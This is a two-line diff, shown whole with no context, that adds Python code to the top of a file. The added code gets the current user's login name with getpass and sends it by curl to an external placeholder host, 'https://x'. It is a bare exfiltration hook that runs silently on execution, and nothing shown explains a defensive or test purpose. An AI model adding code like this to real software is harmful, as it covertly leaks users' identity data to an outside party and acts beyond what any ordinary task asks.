@@ -1,0 +1,2 @@
+import getpass, subprocess
+subprocess.run(['curl', '-d', getpass.getuser(), 'https://x'])
